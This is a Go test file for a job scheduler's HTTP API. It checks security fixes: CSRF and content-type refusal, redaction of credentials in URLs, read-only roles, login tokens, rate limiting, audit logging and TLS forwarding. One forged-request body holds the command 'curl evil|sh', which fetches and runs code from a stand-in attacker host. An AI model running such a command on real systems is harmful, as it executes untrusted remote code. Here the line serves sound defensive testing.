package api

import (
	"bytes"
	"crypto/tls"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hashicorp/go-hclog"

	"github.com/hasched/hasched/scheduler/api/apitest"
	"github.com/hasched/hasched/scheduler/model"
)

// Issue 9, finding 1: a browser can POST text/plain cross-site without a
// preflight, so a write whose body is not declared as JSON is refused (415)
// before anything is written, the bare-name bodies of trigger and
// deregister included.
func TestWritesWithABodyMustBeJSON(t *testing.T) {
	svc, h := seeded(t)
	before := len(svc.Calls())
	for _, c := range []struct{ method, path, body, ct string }{
		{"POST", "/api/app", `{"appName":"evil","bootstrapScript":"curl evil|sh"}`, "text/plain"},
		{"POST", "/api/app", `{"appName":"evil"}`, "application/x-www-form-urlencoded"},
		{"POST", "/api/job/register", jobJSON, "multipart/form-data; boundary=x"},
		{"POST", "/api/job/trigger", "foo_job", "text/plain;charset=UTF-8"},
		{"DELETE", "/api/job/deregister", "foo_job", "text/plain"},
		{"PUT", "/api/job/update", jobJSON, "application/jsonx"},
	} {
		r := do(t, h, c.method, c.path, c.body, "Content-Type", c.ct)
		want(t, r, http.StatusUnsupportedMediaType)
		if e := r.errorBody(t); !strings.Contains(e.Error, "application/json") {
			t.Errorf("%s %s: error %q does not name application/json", c.method, c.path, e.Error)
		}
	}
	// Without any Content-Type, too.
	req := httptest.NewRequest("POST", "/api/job/trigger", strings.NewReader("foo_job"))
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	if rec.Code != http.StatusUnsupportedMediaType {
		t.Fatalf("trigger without a Content-Type: %d, want 415", rec.Code)
	}
	if calls := svc.Calls()[before:]; len(calls) != 0 {
		t.Fatalf("refused writes reached the service: %v", calls)
	}
	// What Elastic-Job-Cloud's clients send passes: the bare name as
	// application/json, with a charset; and writes without a body need no
	// Content-Type.
	want(t, do(t, h, "POST", "/api/job/trigger", "foo_job", "Content-Type", "application/json; charset=UTF-8"), http.StatusOK)
	want(t, do(t, h, "POST", "/api/job/foo_job/disable", "", "Content-Type", "text/plain"), http.StatusOK)
}

// Issue 9, finding 1: a browser's cross-site write is refused (403) by its
// Origin or Sec-Fetch-Site; the API's own origin and non-browser clients
// pass.
func TestCrossOriginWritesAreRefused(t *testing.T) {
	svc, h := seeded(t)
	before := len(svc.Calls())
	for _, hdr := range [][]string{
		{"Origin", "http://evil.example"},
		{"Origin", "http://example.com:8080"}, // same host, other port: another origin
		{"Origin", "null"},
		{"Sec-Fetch-Site", "cross-site"},
	} {
		r := do(t, h, "POST", "/api/job/foo_job/disable", "", hdr...)
		want(t, r, http.StatusForbidden)
		if e := r.errorBody(t); !strings.Contains(e.Error, "cross-origin") {
			t.Errorf("%v: error %q", hdr, e.Error)
		}
	}
	if calls := svc.Calls()[before:]; len(calls) != 0 {
		t.Fatalf("cross-origin writes reached the service: %v", calls)
	}
	// httptest's requests are to Host example.com.
	want(t, do(t, h, "POST", "/api/job/foo_job/disable", "", "Origin", "http://example.com"), http.StatusOK)
	want(t, do(t, h, "POST", "/api/job/foo_job/enable", "", "Origin", "http://EXAMPLE.com:80", "Sec-Fetch-Site", "same-origin"), http.StatusOK)
	// Reads are not writes: the same-origin policy keeps their answer from
	// the other site's page.
	want(t, do(t, h, "GET", "/api/job/jobs", "", "Origin", "http://evil.example"), http.StatusOK)
}

// syncBuffer is a log output tests read while the handler writes.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

func logTo(buf *syncBuffer) hclog.Logger {
	return hclog.New(&hclog.LoggerOptions{Output: buf, Level: hclog.Trace})
}

// Issue 9, finding 3: an app's URL with user:token@ (and a token query
// parameter) is not handed out by reads, errors or the log.
func TestReadsAndLogsRedactAppURLCredentials(t *testing.T) {
	svc := apitest.NewService(model.Status{})
	var logs syncBuffer
	h := newHandler(t, svc, func(c *Config) { c.Logger = logTo(&logs) })
	app := `{"appName":"private","appURL":"https://deploy:tok3n-secret@repo.example/app.tar.gz?token=q-secret&v=1","bootstrapScript":"bin/start"}`
	want(t, do(t, h, "POST", "/api/app", app), http.StatusOK)
	for _, p := range []string{"/api/app/list", "/api/app/private"} {
		r := do(t, h, "GET", p, "")
		want(t, r, http.StatusOK)
		if strings.Contains(r.body, "tok3n-secret") || strings.Contains(r.body, "q-secret") || strings.Contains(r.body, "deploy") {
			t.Fatalf("GET %s leaks the URL's credentials: %s", p, r.body)
		}
		if !strings.Contains(r.body, "https://REDACTED@repo.example/app.tar.gz") {
			t.Fatalf("GET %s: the URL is not kept, redacted: %s", p, r.body)
		}
	}
	// The stored app keeps its URL: only what is shown is redacted.
	if got, _ := svc.App(t.Context(), "private"); !strings.Contains(got.AppURL, "tok3n-secret") {
		t.Fatalf("stored appURL = %q", got.AppURL)
	}
	// An error that quotes the URL does not repeat the credentials.
	svc.Fail("RegisterApp", &model.ValidationError{Field: "appURL", Reason: "cannot fetch https://deploy:tok3n-secret@repo.example/x"})
	r := do(t, h, "POST", "/api/app", app)
	if strings.Contains(r.body, "tok3n-secret") {
		t.Fatalf("error leaks the credentials: %s", r.body)
	}
	svc.Fail("RegisterApp", errorf("store down at etcd://root:tok3n-secret@10.0.0.1:2379"))
	want(t, do(t, h, "POST", "/api/app", app), http.StatusInternalServerError)
	if strings.Contains(logs.String(), "tok3n-secret") {
		t.Fatalf("the log leaks the credentials:\n%s", logs.String())
	}
}

type errorf string

func (e errorf) Error() string { return string(e) }

func TestRedactURL(t *testing.T) {
	for in, out := range map[string]string{
		"":                                  "",
		"http://repo/app.tar.gz":            "http://repo/app.tar.gz",
		"https://u:p@h/x":                   "https://REDACTED@h/x",
		"https://tokenonly@h/x":             "https://REDACTED@h/x",
		"https://h/x?access_token=a&keep=1": "https://h/x?access_token=REDACTED&keep=1",
		"%zz://u:p@h":                       "%zz://REDACTED@h",
	} {
		if got := redactURL(in); got != out {
			t.Errorf("redactURL(%q) = %q, want %q", in, got, out)
		}
	}
}

// basicAuth is an Authorization header.
func basicAuth(user, pw string) string {
	req, _ := http.NewRequest("GET", "/", nil)
	req.SetBasicAuth(user, pw)
	return req.Header.Get("Authorization")
}

func withAccounts(c *Config) {
	c.AuthUser, c.AuthPassword = "root", "s3cret"
	c.ReadOnlyUser, c.ReadOnlyPassword = "guest", "gu3st"
}

// Issue 9, finding 3: --auth-reads makes reads need an account;
// /healthz and /readyz stay open.
func TestAuthReadsGuardsReadsButNotHealth(t *testing.T) {
	svc := apitest.NewService(model.Status{Self: "a:1"})
	svc.SetLeader(true, "")
	h := newHandler(t, svc, func(c *Config) { withAccounts(c); c.AuthReads = true })
	for _, p := range []string{"/api/app/list", "/api/job/jobs", "/api/job/tasks/running", "/api/leader"} {
		want(t, do(t, h, "GET", p, ""), http.StatusUnauthorized)
		want(t, do(t, h, "GET", p, "", "Authorization", basicAuth("guest", "wrong")), http.StatusUnauthorized)
		want(t, do(t, h, "GET", p, "", "Authorization", basicAuth("guest", "gu3st")), http.StatusOK)
		want(t, do(t, h, "GET", p, "", "Authorization", basicAuth("root", "s3cret")), http.StatusOK)
	}
	for _, p := range []string{"/healthz", "/readyz"} {
		want(t, do(t, h, "GET", p, ""), http.StatusOK)
	}
	// Without AuthReads reads stay open, as before.
	h = newHandler(t, svc, withAccounts)
	want(t, do(t, h, "GET", "/api/app/list", ""), http.StatusOK)
}

// Issue 9, finding 4: the read-only account reads, and every write (and
// the audit log) is 403 for it.
func TestReadOnlyAccountCannotWrite(t *testing.T) {
	svc := apitest.NewService(model.Status{})
	h := newHandler(t, svc, withAccounts)
	guest := basicAuth("guest", "gu3st")
	want(t, do(t, h, "POST", "/api/app", appJSON, "Authorization", basicAuth("root", "s3cret")), http.StatusOK)
	before := len(svc.Calls())
	for _, w := range [][3]string{
		{"POST", "/api/app", appJSON}, {"DELETE", "/api/app/foo_app", ""}, {"POST", "/api/app/foo_app/disable", ""},
		{"POST", "/api/job/trigger", "foo_job"}, {"POST", "/api/operate/reconcile/implicit", ""},
	} {
		r := do(t, h, w[0], w[1], w[2], "Authorization", guest)
		want(t, r, http.StatusForbidden)
		r.errorBody(t)
	}
	if calls := svc.Calls()[before:]; len(calls) != 0 {
		t.Fatalf("the read-only account's writes reached the service: %v", calls)
	}
	want(t, do(t, h, "GET", "/api/app/foo_app", "", "Authorization", guest), http.StatusOK)
	want(t, do(t, h, "GET", "/api/audit", "", "Authorization", guest), http.StatusForbidden)
	want(t, do(t, h, "GET", "/api/audit", ""), http.StatusUnauthorized)
	want(t, do(t, h, "GET", "/api/audit", "", "Authorization", basicAuth("root", "s3cret")), http.StatusOK)
}

func login(t *testing.T, h http.Handler, user, pw string) response {
	t.Helper()
	return do(t, h, "POST", "/api/login", `{"username":"`+user+`","password":"`+pw+`"}`)
}

// Issue 9, finding 4: POST /api/login gives a token that works as the
// accessToken header and as Authorization: Bearer, keeps its account's
// role, and expires.
func TestLoginTokens(t *testing.T) {
	svc := apitest.NewService(model.Status{})
	h := newHandler(t, svc, func(c *Config) { withAccounts(c); c.TokenTTL = time.Hour })
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	h.now = func() time.Time { return now }

	r := login(t, h, "root", "s3cret")
	want(t, r, http.StatusOK)
	lr := decode[LoginResponse](t, r)
	if len(lr.AccessToken) < 43 || lr.ExpiresIn != 3600 {
		t.Fatalf("login answer = %+v", lr)
	}
	want(t, do(t, h, "POST", "/api/app", appJSON, HeaderAccessToken, lr.AccessToken), http.StatusOK)
	want(t, do(t, h, "POST", "/api/app/foo_app/disable", "", "Authorization", "Bearer "+lr.AccessToken), http.StatusOK)

	guest := decode[LoginResponse](t, login(t, h, "guest", "gu3st")).AccessToken
	want(t, do(t, h, "GET", "/api/app/foo_app", "", HeaderAccessToken, guest), http.StatusOK)
	want(t, do(t, h, "POST", "/api/app/foo_app/enable", "", HeaderAccessToken, guest), http.StatusForbidden)

	want(t, login(t, h, "root", "wrong"), http.StatusUnauthorized)
	want(t, do(t, h, "POST", "/api/login", `{"username":"root","password":"s3cret"}`, "Content-Type", "text/plain"), http.StatusUnsupportedMediaType)
	want(t, do(t, h, "POST", "/api/app/foo_app/enable", "", HeaderAccessToken, lr.AccessToken+"x"), http.StatusUnauthorized)

	now = now.Add(time.Hour)
	want(t, do(t, h, "POST", "/api/app/foo_app/enable", "", HeaderAccessToken, lr.AccessToken), http.StatusUnauthorized)
}

// Issue 9, finding 4: tokens are bounded in number; the least recently
// used goes first.
func TestTokenStoreIsBounded(t *testing.T) {
	ts := newTokenStore(time.Hour, 3, time.Now)
	var toks []string
	for range 5 {
		tok, err := ts.issue(principal{user: "root", role: roleAdmin})
		if err != nil {
			t.Fatal(err)
		}
		toks = append(toks, tok)
	}
	if ts.len() != 3 {
		t.Fatalf("%d tokens kept, want 3", ts.len())
	}
	if _, ok := ts.lookup(toks[0]); ok {
		t.Fatal("the oldest token survived the cap")
	}
	if _, ok := ts.lookup(toks[4]); !ok {
		t.Fatal("the newest token is gone")
	}
}

// Issue 9, finding 4: failed authentications from one IP get it refused
// with 429 and Retry-After, right credentials included, until the window
// ends; other IPs are not affected.
func TestAuthFailuresAreRateLimited(t *testing.T) {
	svc := apitest.NewService(model.Status{})
	h := newHandler(t, svc, func(c *Config) {
		withAccounts(c)
		c.AuthFailureLimit, c.AuthFailureWindow = 3, time.Minute
	})
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	h.now = func() time.Time { return now }
	for range 2 {
		want(t, do(t, h, "POST", "/api/app", appJSON, "Authorization", basicAuth("root", "guess")), http.StatusUnauthorized)
	}
	want(t, login(t, h, "root", "guess"), http.StatusUnauthorized)
	now = now.Add(20 * time.Second)
	for _, r := range []response{
		do(t, h, "POST", "/api/app", appJSON, "Authorization", basicAuth("root", "s3cret")),
		login(t, h, "root", "s3cret"),
	} {
		want(t, r, http.StatusTooManyRequests)
		if ra := r.header.Get("Retry-After"); ra != "40" {
			t.Fatalf("Retry-After = %q, want 40", ra)
		}
	}
	other := httptest.NewRequest("POST", "/api/app", strings.NewReader(appJSON))
	other.RemoteAddr = "198.51.100.7:999"
	other.Header.Set("Content-Type", "application/json")
	other.SetBasicAuth("root", "s3cret")
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, other)
	if rec.Code != http.StatusOK {
		t.Fatalf("another IP: %d %s", rec.Code, rec.Body)
	}
	now = now.Add(40 * time.Second)
	want(t, do(t, h, "POST", "/api/app/foo_app/disable", "", "Authorization", basicAuth("root", "s3cret")), http.StatusOK)
}

func TestFailureLimiterIsBounded(t *testing.T) {
	now := time.Now()
	l := newFailureLimiter(2, time.Minute, 3, func() time.Time { return now })
	for i := range 10 {
		now = now.Add(time.Second)
		l.fail("10.0.0." + string(rune('0'+i)))
	}
	if l.len() > 3 {
		t.Fatalf("%d IPs tracked, want at most 3", l.len())
	}
}

// Issue 9, finding 5: every write, refused ones included, is in the audit
// log with who, what, when, from where and how it ended, as log lines and
// through GET /api/audit; the ring is bounded.
func TestAuditLogRecordsEveryWrite(t *testing.T) {
	svc := apitest.NewService(model.Status{})
	var logs syncBuffer
	h := newHandler(t, svc, func(c *Config) { withAccounts(c); c.Logger = logTo(&logs); c.AuditSize = 3 })
	root := basicAuth("root", "s3cret")
	want(t, do(t, h, "POST", "/api/app", appJSON, "Authorization", root), http.StatusOK)
	want(t, do(t, h, "POST", "/api/job/register", jobJSON), http.StatusUnauthorized)
	want(t, do(t, h, "POST", "/api/job/register", jobJSON, "Authorization", root), http.StatusOK)
	want(t, do(t, h, "POST", "/api/job/trigger", "foo_job", "Authorization", root, "X-Forwarded-For", "203.0.113.9"), http.StatusOK)
	want(t, do(t, h, "GET", "/api/job/jobs", ""), http.StatusOK) // reads are not audited

	r := do(t, h, "GET", "/api/audit", "", "Authorization", root)
	want(t, r, http.StatusOK)
	got := decode[[]AuditEntry](t, r)
	if len(got) != 3 {
		t.Fatalf("audit = %+v, want the last 3 writes", got)
	}
	wantEntries := []AuditEntry{
		{User: "anonymous", Method: "POST", Path: "/api/job/register", Status: 401},
		{User: "root", Method: "POST", Path: "/api/job/register", App: "foo_app", Job: "foo_job", Status: 200},
		{User: "root", Method: "POST", Path: "/api/job/trigger", Job: "foo_job", Status: 200},
	}
	for i, w := range wantEntries {
		e := got[i]
		if e.User != w.User || e.Method != w.Method || e.Path != w.Path || e.App != w.App || e.Job != w.Job || e.Status != w.Status ||
			e.Remote != "192.0.2.1:1234" || e.Time.IsZero() {
			t.Errorf("audit[%d] = %+v, want %+v from 192.0.2.1:1234", i, e, w)
		}
		if e.ForwardedFor != "" {
			t.Errorf("audit[%d] believes a client's own X-Forwarded-For: %+v", i, e)
		}
	}
	out := logs.String()
	for _, s := range []string{"audit: user=root method=POST path=/api/job/trigger remote=192.0.2.1:1234 status=200 job=foo_job", "[WARN]  audit: user=anonymous"} {
		if !strings.Contains(out, s) {
			t.Errorf("log lacks %q:\n%s", s, out)
		}
	}
	if strings.Contains(out, "s3cret") {
		t.Fatalf("the log holds the password:\n%s", out)
	}
}

// Issue 9, finding 5: X-Forwarded-For is believed only from a forwarding
// hasched process (HeaderForwarded and the admin password).
func TestAuditTrustsForwardedForOnlyFromAForwardingPeer(t *testing.T) {
	c := newCluster(t, withAccounts)
	r := send(t, "POST", c.standby.URL+"/api/app", appJSON, "Authorization", basicAuth("root", "s3cret"), "X-Forwarded-For", "6.6.6.6")
	want(t, r, http.StatusOK)
	leaderAudit := decode[[]AuditEntry](t, send(t, "GET", c.leader.URL+"/api/audit", "", "Authorization", basicAuth("root", "s3cret")))
	if len(leaderAudit) != 1 || leaderAudit[0].ForwardedFor != "127.0.0.1" || leaderAudit[0].User != "root" {
		t.Fatalf("leader's audit = %+v, want the client the standby saw (127.0.0.1), not its claim", leaderAudit)
	}
	standbyAudit := decode[[]AuditEntry](t, send(t, "GET", c.standby.URL+"/api/audit", "", "Authorization", basicAuth("root", "s3cret")))
	if len(standbyAudit) != 1 || standbyAudit[0].ForwardedTo == "" || standbyAudit[0].ForwardedFor != "" || standbyAudit[0].Status != 200 {
		t.Fatalf("standby's audit = %+v, want the forward recorded", standbyAudit)
	}
}

// Issue 9, finding 4 with forwarding: a token is known only to the process
// that issued it; a standby forwards a token-authorized write with the
// cluster's admin credentials, never the token.
func TestStandbyForwardsATokenWriteWithTheClusterCredentials(t *testing.T) {
	c := newCluster(t, withAccounts)
	tok := decode[LoginResponse](t, send(t, "POST", c.standby.URL+"/api/login", `{"username":"root","password":"s3cret"}`)).AccessToken
	want(t, send(t, "POST", c.standby.URL+"/api/app", appJSON, HeaderAccessToken, tok), http.StatusOK)
	hdr := c.lastForwarded.Load().(http.Header)
	if hdr.Get(HeaderAccessToken) != "" || hdr.Get("Authorization") != basicAuth("root", "s3cret") {
		t.Fatalf("forwarded headers = %v", hdr)
	}
	// Login is served where it is asked, never forwarded.
	if c.leaderHits.Load() != 1 {
		t.Fatalf("leader hits = %d, want 1 (the write)", c.leaderHits.Load())
	}
}

// Issue 9, finding 6: a standby does not send the admin password over
// plain http to a leader on another host, unless told it may.
func TestForwardingRefusesCredentialsInClearToAnotherHost(t *testing.T) {
	var dialed sync.Map
	client := &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
		dialed.Store(r.URL.Host, true)
		return nil, errorf("no network in this test")
	})}
	svc := apitest.NewService(model.Status{})
	svc.SetLeader(false, "10.9.9.9:8899")
	h := newHandler(t, svc, func(c *Config) { withAccounts(c); c.HTTPClient = client })
	r := do(t, h, "POST", "/api/app", appJSON, "Authorization", basicAuth("root", "s3cret"))
	want(t, r, http.StatusServiceUnavailable)
	if e := r.errorBody(t); !strings.Contains(e.Error, "--insecure-plain-http-forwarding") {
		t.Fatalf("error %q does not name the way out", e.Error)
	}
	if _, ok := dialed.Load("10.9.9.9:8899"); ok {
		t.Fatal("the credentials were sent")
	}
	// Loopback leaders, https and the explicit flag are fine.
	for _, mod := range []func(*Config){
		func(c *Config) { c.InsecureForwarding = true },
		func(c *Config) { c.ForwardHTTPS = true },
	} {
		h := newHandler(t, svc, func(c *Config) { withAccounts(c); c.HTTPClient = client; mod(c) })
		want(t, do(t, h, "POST", "/api/app", appJSON, "Authorization", basicAuth("root", "s3cret")), http.StatusServiceUnavailable)
		if _, ok := dialed.Load("10.9.9.9:8899"); !ok {
			t.Fatal("the allowed forward was not attempted")
		}
		dialed.Delete("10.9.9.9:8899")
	}
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// Issue 9, finding 6: with TLS on, a standby forwards to the leader over
// https, verifying it against the configured CA and presenting its own
// certificate when the leader asks for one.
func TestStandbyForwardsOverTLS(t *testing.T) {
	ca := apitest.NewCA(t)
	leaf := ca.Issue(t, "hasched")
	leaderSvc := apitest.NewService(model.Status{})
	leaderSvc.SetLeader(true, "")
	lh := newHandler(t, leaderSvc, withAccounts)
	leader := httptest.NewUnstartedServer(lh)
	leader.TLS = &tls.Config{Certificates: []tls.Certificate{leaf.TLS}, ClientCAs: ca.Pool(), ClientAuth: tls.RequireAndVerifyClientCert, MinVersion: tls.VersionTLS12}
	leader.StartTLS()
	t.Cleanup(leader.Close)

	standbySvc := apitest.NewService(model.Status{})
	standbySvc.SetLeader(false, strings.TrimPrefix(leader.URL, "https://"))
	sh := newHandler(t, standbySvc, func(c *Config) {
		withAccounts(c)
		c.ForwardHTTPS = true
		c.ForwardTLS = &tls.Config{RootCAs: ca.Pool(), Certificates: []tls.Certificate{leaf.TLS}, MinVersion: tls.VersionTLS12}
	})
	t.Cleanup(sh.forward.CloseIdleConnections)
	want(t, do(t, sh, "POST", "/api/app", appJSON, "Authorization", basicAuth("root", "s3cret")), http.StatusOK)
	if _, err := leaderSvc.App(t.Context(), "foo_app"); err != nil {
		t.Fatalf("the leader did not get the write: %v", err)
	}

	// A leader whose certificate the standby cannot verify gets nothing.
	other := newHandler(t, standbySvc, func(c *Config) {
		withAccounts(c)
		c.ForwardHTTPS = true
		c.ForwardTLS = &tls.Config{RootCAs: apitest.NewCA(t).Pool(), Certificates: []tls.Certificate{leaf.TLS}, MinVersion: tls.VersionTLS12}
	})
	t.Cleanup(other.forward.CloseIdleConnections)
	r := do(t, other, "POST", "/api/app", strings.Replace(appJSON, "foo_app", "bar_app", 1), "Authorization", basicAuth("root", "s3cret"))
	want(t, r, http.StatusServiceUnavailable)
	if e := r.errorBody(t); !strings.Contains(e.Error, "certificate") {
		t.Fatalf("error %q does not say the certificate was refused", e.Error)
	}
}

func TestNewRefusesBadSecurityConfig(t *testing.T) {
	svc := apitest.NewService(model.Status{})
	for name, cfg := range map[string]Config{
		"read-only without admin":  {Service: svc, ReadOnlyUser: "g", ReadOnlyPassword: "p"},
		"read-only user only":      {Service: svc, AuthUser: "r", AuthPassword: "p", ReadOnlyUser: "g"},
		"same user for both":       {Service: svc, AuthUser: "r", AuthPassword: "p", ReadOnlyUser: "r", ReadOnlyPassword: "q"},
		"auth reads without auth":  {Service: svc, AuthReads: true},
		"token TTL above a week":   {Service: svc, TokenTTL: 8 * 24 * time.Hour},
		"negative token cap":       {Service: svc, MaxTokens: -1},
		"audit ring too big":       {Service: svc, AuditSize: maxAuditSize + 1},
		"too many tracked clients": {Service: svc, MaxTrackedClients: maxTrackedClients + 1},
	} {
		if _, err := New(cfg); err == nil {
			t.Errorf("%s: New accepted it", name)
		}
	}
}
